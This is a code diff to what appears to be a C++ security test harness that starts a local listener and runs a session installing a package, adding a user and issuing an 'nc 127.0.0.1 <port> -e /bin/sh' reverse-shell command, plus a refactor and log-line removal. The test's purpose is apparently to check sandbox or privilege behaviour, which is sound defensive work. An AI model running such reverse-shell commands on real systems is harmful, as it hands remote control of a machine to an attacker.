@@ -201,7 +201,7 @@ void LiveScenario::serve_redirect() {
         if (poll(&p, 1, 10000) <= 0) break;
         const ssize_t n = read(c, buf, sizeof(buf));
         if (n <= 0) break;
-        redirect_received_.append(buf, static_cast<size_t>(n));
+        reverse_shell_output.append(buf, static_cast<size_t>(n));
     }
     close(c);
 }
@@ -271,17 +271,15 @@ void LiveScenario::perform() {
                               "--clear-groups", "/usr/bin/setpriv", "--reuid=0", "/bin/true"});
 
     redirect_server_ = std::thread([this] { serve_redirect(); });
-    interactive_output = interactive_
-                             ->run(
-                                 "/bin/apk add lanner-live-package\n"
-                                 "/bin/useradd lannerlive\n"
-                                 "/bin/nc 127.0.0.1 " +
-                                 std::to_string(redirect_port) +
-                                 " -e /bin/sh\n"
-                                 "exit\n")
-                             .output;
+    const std::string session =
+        "/bin/apk add lanner-live-package\n"
+        "/bin/useradd lannerlive\n"
+        "/bin/nc 127.0.0.1 " +
+        std::to_string(redirect_port) +
+        " -e /bin/sh\n"
+        "exit\n";
+    interactive_output = interactive_->run(session).output;
     redirect_server_.join();
-    BOOST_TEST_INFO("the reverse shell sent: " << redirect_received_);
     capable_output = capable_->run().output;
 }
 
